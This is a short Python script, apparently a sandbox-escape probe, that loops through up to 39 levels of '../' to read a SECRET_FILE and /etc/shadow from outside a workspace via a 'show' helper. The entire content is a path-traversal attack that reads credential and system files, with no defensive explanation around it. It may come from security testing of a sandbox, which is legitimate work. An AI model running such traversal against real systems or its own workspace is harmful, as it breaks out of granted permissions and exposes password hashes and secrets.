"""Climbs out of the workspace with relative paths."""

from kit import *

for depth in range(1, 40):
    show("../" * depth + SECRET_FILE.lstrip("/"))
    show("./x/../" + "../" * depth + "etc/shadow")
